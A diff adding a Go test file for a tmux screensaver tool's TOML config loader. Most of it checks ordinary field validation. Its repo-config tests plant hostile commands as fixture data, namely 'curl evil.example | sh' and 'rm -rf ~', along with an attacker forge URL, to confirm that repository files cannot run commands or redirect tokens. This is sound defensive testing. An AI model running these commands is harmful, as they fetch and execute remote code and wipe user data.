@@ -0,0 +1,267 @@
+package config
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func writeFile(t *testing.T, dir, name, content string) string {
+	t.Helper()
+	path := filepath.Join(dir, name)
+	require.NoError(t, os.WriteFile(path, []byte(content), 0600))
+	return path
+}
+
+func TestLoadFile(t *testing.T) {
+	dir := t.TempDir()
+
+	t.Run("missing file", func(t *testing.T) {
+		cfg, err := LoadFile(filepath.Join(dir, "nope.toml"))
+		require.NoError(t, err)
+		assert.Nil(t, cfg.Ticker.MaxCommits)
+	})
+
+	t.Run("ticker section", func(t *testing.T) {
+		path := writeFile(t, dir, "ok.toml", `
+[ticker]
+max_commits = 5
+exclude = ["^chore", "^Merge"]
+`)
+		cfg, err := LoadFile(path)
+		require.NoError(t, err)
+		require.NotNil(t, cfg.Ticker.MaxCommits)
+		assert.Equal(t, 5, *cfg.Ticker.MaxCommits)
+		assert.Equal(t, []string{"^chore", "^Merge"}, cfg.Ticker.Exclude)
+		assert.Nil(t, cfg.Ticker.Disabled)
+	})
+
+	t.Run("invalid regexp", func(t *testing.T) {
+		path := writeFile(t, dir, "bad.toml", "[ticker]\ninclude = [\"(\"]\n")
+		_, err := LoadFile(path)
+		assert.Error(t, err)
+	})
+
+	t.Run("invalid max_commits", func(t *testing.T) {
+		path := writeFile(t, dir, "neg.toml", "[ticker]\nmax_commits = 0\n")
+		_, err := LoadFile(path)
+		assert.Error(t, err)
+	})
+
+	t.Run("daylight section", func(t *testing.T) {
+		path := writeFile(t, dir, "daylight.toml", "[daylight]\nlatitude = 48.85\nlongitude = 2.35\n")
+		cfg, err := LoadFile(path)
+		require.NoError(t, err)
+		require.NotNil(t, cfg.Daylight.Latitude)
+		assert.InDelta(t, 48.85, *cfg.Daylight.Latitude, 1e-9)
+		assert.InDelta(t, 2.35, *cfg.Daylight.Longitude, 1e-9)
+	})
+
+	t.Run("invalid daylight", func(t *testing.T) {
+		for name, content := range map[string]string{
+			"latitude range":  "[daylight]\nlatitude = 91.0\nlongitude = 0.0\n",
+			"longitude range": "[daylight]\nlatitude = 0.0\nlongitude = -181.0\n",
+			"latitude only":   "[daylight]\nlatitude = 45.0\n",
+		} {
+			path := writeFile(t, dir, "daylight-bad.toml", content)
+			_, err := LoadFile(path)
+			assert.Error(t, err, name)
+		}
+	})
+
+	t.Run("animation section", func(t *testing.T) {
+		path := writeFile(t, dir, "animation.toml", "[animation]\nnormal = \"matrix\"\nlock = \"fire\"\n")
+		cfg, err := LoadFile(path)
+		require.NoError(t, err)
+		require.NotNil(t, cfg.Animation.Normal)
+		assert.Equal(t, "matrix", *cfg.Animation.Normal)
+		assert.Equal(t, "fire", *cfg.Animation.Lock)
+		assert.Nil(t, cfg.Animation.Playground)
+		assert.Nil(t, cfg.Animation.Model)
+
+		path = writeFile(t, dir, "model.toml", "[animation]\nmodel = \"doom\"\n")
+		cfg, err = LoadFile(path)
+		require.NoError(t, err)
+		assert.Equal(t, "doom", *cfg.Animation.Model)
+
+		path = writeFile(t, dir, "model-bad.toml", "[animation]\nmodel = \"lava\"\n")
+		_, err = LoadFile(path)
+		assert.Error(t, err)
+	})
+
+	t.Run("ticker sources", func(t *testing.T) {
+		path := writeFile(t, dir, "sources.toml", "[ticker]\nsources = [\"todos\", \"commits\"]\n")
+		cfg, err := LoadFile(path)
+		require.NoError(t, err)
+		assert.Equal(t, []string{"todos", "commits"}, cfg.Ticker.Sources)
+
+		path = writeFile(t, dir, "sources-bad.toml", "[ticker]\nsources = [\"rss\"]\n")
+		_, err = LoadFile(path)
+		assert.Error(t, err)
+
+		path = writeFile(t, dir, "feeds.toml", "[ticker]\nsources = [\"feed\", \"command\"]\nfeeds = [\"https://go.dev/blog/feed.atom\"]\ncommand = \"uptime\"\n")
+		cfg, err = LoadFile(path)
+		require.NoError(t, err)
+		assert.Equal(t, []string{"https://go.dev/blog/feed.atom"}, cfg.Ticker.Feeds)
+		require.NotNil(t, cfg.Ticker.Command)
+		assert.Equal(t, "uptime", *cfg.Ticker.Command)
+
+		path = writeFile(t, dir, "feeds-bad.toml", "[ticker]\nfeeds = [\"/etc/passwd\"]\n")
+		_, err = LoadFile(path)
+		assert.Error(t, err)
+	})
+
+	t.Run("forge section", func(t *testing.T) {
+		path := writeFile(t, dir, "forge.toml", "[forge]\nurl = \"https://ghe.example.com/api/v3\"\n")
+		cfg, err := LoadFile(path)
+		require.NoError(t, err)
+		require.NotNil(t, cfg.Forge.URL)
+		assert.Equal(t, "https://ghe.example.com/api/v3", *cfg.Forge.URL)
+		assert.Nil(t, cfg.Forge.Backend)
+
+		path = writeFile(t, dir, "forge-bad.toml", "[forge]\nbackend = \"sourceforge\"\n")
+		_, err = LoadFile(path)
+		assert.Error(t, err)
+	})
+
+	t.Run("effects section", func(t *testing.T) {
+		path := writeFile(t, dir, "effects.toml", "[effects]\nenabled = true\nchain = [\"scanlines:0.4\", \"vignette\"]\n")
+		cfg, err := LoadFile(path)
+		require.NoError(t, err)
+		require.NotNil(t, cfg.Effects.Enabled)
+		assert.True(t, *cfg.Effects.Enabled)
+		assert.Equal(t, []string{"scanlines:0.4", "vignette"}, cfg.Effects.Chain)
+
+		path = writeFile(t, dir, "effects-bad.toml", "[effects]\nchain = [\"bloom\"]\n")
+		_, err = LoadFile(path)
+		assert.ErrorContains(t, err, "effects.chain")
+	})
+
+	t.Run("hooks", func(t *testing.T) {
+		path := writeFile(t, dir, "hooks.toml", "[hooks]\nlock = \"dunstctl set-paused true\"\ntimeout = \"3s\"\n")
+		cfg, err := LoadFile(path)
+		require.NoError(t, err)
+		assert.Equal(t, "dunstctl set-paused true", *cfg.Hooks.Lock)
+		assert.Equal(t, 3*time.Second, cfg.HookTimeout())
+		assert.Equal(t, DefaultHookTimeout, Config{}.HookTimeout())
+
+		path = writeFile(t, dir, "hooks-timeout.toml", "[hooks]\ntimeout = \"soon\"\n")
+		_, err = LoadFile(path)
+		assert.ErrorContains(t, err, "hooks.timeout")
+
+		path = writeFile(t, dir, "hooks-panic.toml", "[hooks]\npanic = \"notify-send panic\"\npanic_keys = \"F12 Home F12\"\n")
+		cfg, err = LoadFile(path)
+		require.NoError(t, err)
+		assert.Equal(t, "notify-send panic", *cfg.Hooks.Panic)
+		assert.Equal(t, "F12 Home F12", *cfg.Hooks.PanicKeys)
+
+		path = writeFile(t, dir, "hooks-panic-bad.toml", "[hooks]\npanic_keys = \"F12 x\"\n")
+		_, err = LoadFile(path)
+		assert.ErrorContains(t, err, "hooks.panic_keys")
+	})
+
+	t.Run("password storage", func(t *testing.T) {
+		path := writeFile(t, dir, "password.toml", "[password]\nstorage = \"keychain\"\n")
+		cfg, err := LoadFile(path)
+		require.NoError(t, err)
+		assert.Equal(t, "keychain", *cfg.Password.Storage)
+
+		path = writeFile(t, dir, "password-bad.toml", "[password]\nstorage = \"vault\"\n")
+		_, err = LoadFile(path)
+		assert.ErrorContains(t, err, "password.storage")
+	})
+
+	t.Run("password policy", func(t *testing.T) {
+		path := writeFile(t, dir, "policy.toml", "[password]\nmin_length = 12\nmin_strength = \"fair\"\nrequire_keys = true\nduress_exec = \"tmux kill-server\"\n")
+		cfg, err := LoadFile(path)
+		require.NoError(t, err)
+		assert.Equal(t, "tmux kill-server", *cfg.Password.DuressExec)
+		assert.Equal(t, 12, *cfg.Password.MinLength)
+		assert.Equal(t, "fair", *cfg.Password.MinStrength)
+		assert.True(t, *cfg.Password.RequireKeys)
+
+		path = writeFile(t, dir, "policy-length.toml", "[password]\nmin_length = 0\n")
+		_, err = LoadFile(path)
+		assert.ErrorContains(t, err, "password.min_length")
+
+		path = writeFile(t, dir, "policy-strength.toml", "[password]\nmin_strength = \"epic\"\n")
+		_, err = LoadFile(path)
+		assert.ErrorContains(t, err, "password.min_strength")
+	})
+
+	t.Run("syntax error", func(t *testing.T) {
+		path := writeFile(t, dir, "syntax.toml", "[ticker\n")
+		_, err := LoadFile(path)
+		assert.Error(t, err)
+	})
+}
+
+func TestMerge(t *testing.T) {
+	yes, five, ten := true, 5, 10
+
+	base := Config{Ticker: Ticker{MaxCommits: &ten, Exclude: []string{"^wip"}}}
+	base.Merge(Config{Ticker: Ticker{MaxCommits: &five, Disabled: &yes}})
+
+	assert.Equal(t, 5, *base.Ticker.MaxCommits)
+	assert.True(t, *base.Ticker.Disabled)
+	assert.Equal(t, []string{"^wip"}, base.Ticker.Exclude, "unset fields are kept")
+
+	base.Merge(Config{Ticker: Ticker{Exclude: []string{}}})
+	assert.Empty(t, base.Ticker.Exclude, "an explicit empty list clears filters")
+}
+
+func TestLoadRepoCannotRunCommands(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	repo := t.TempDir()
+	require.NoError(t, exec.Command("git", "-C", repo, "init", "-q").Run())
+	writeFile(t, repo, RepoFileName, "[calendar]\nurl = \"team.ics\"\ncommand = \"curl evil.example | sh\"\n"+
+		"[ticker]\nfeeds = [\"https://example.com/feed.xml\"]\ncommand = \"rm -rf ~\"\n"+
+		"[weather]\nlocation = \"Brest\"\ncommand = \"curl evil.example | sh\"\n"+
+		"[hooks]\nunlock = \"curl evil.example | sh\"\n"+
+		"[password]\nstorage = \"keychain\"\n")
+
+	cfg, err := Load(repo)
+	require.NoError(t, err)
+	require.NotNil(t, cfg.Calendar.URL)
+	assert.Equal(t, "team.ics", *cfg.Calendar.URL)
+	assert.Nil(t, cfg.Calendar.Command)
+	assert.Equal(t, []string{"https://example.com/feed.xml"}, cfg.Ticker.Feeds)
+	assert.Nil(t, cfg.Ticker.Command)
+	require.NotNil(t, cfg.Weather.Location)
+	assert.Equal(t, "Brest", *cfg.Weather.Location)
+	assert.Nil(t, cfg.Weather.Command)
+	assert.Nil(t, cfg.Hooks.Unlock)
+	assert.Nil(t, cfg.Password.Storage)
+}
+
+func TestLoadRepoCannotSetForge(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	config := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", config)
+	require.NoError(t, os.MkdirAll(filepath.Join(config, "tmux-yule-log"), 0700))
+	writeFile(t, filepath.Join(config, "tmux-yule-log"), "config.toml",
+		"[forge]\nbackend = \"github\"\nurl = \"https://ghe.example.com/api/v3\"\n")
+	repo := t.TempDir()
+	require.NoError(t, exec.Command("git", "-C", repo, "init", "-q").Run())
+	writeFile(t, repo, RepoFileName, "[forge]\nurl = \"https://evil.example\"\nuser = \"me\"\n"+
+		"[ticker]\nsources = [\"forge\"]\n")
+
+	cfg, err := Load(repo)
+	require.NoError(t, err)
+	assert.Equal(t, []string{"forge"}, cfg.Ticker.Sources)
+	require.NotNil(t, cfg.Forge.Backend)
+	assert.Equal(t, "github", *cfg.Forge.Backend)
+	require.NotNil(t, cfg.Forge.URL)
+	assert.Equal(t, "https://ghe.example.com/api/v3", *cfg.Forge.URL, "the token only goes to the global forge")
+	assert.Nil(t, cfg.Forge.User)
+}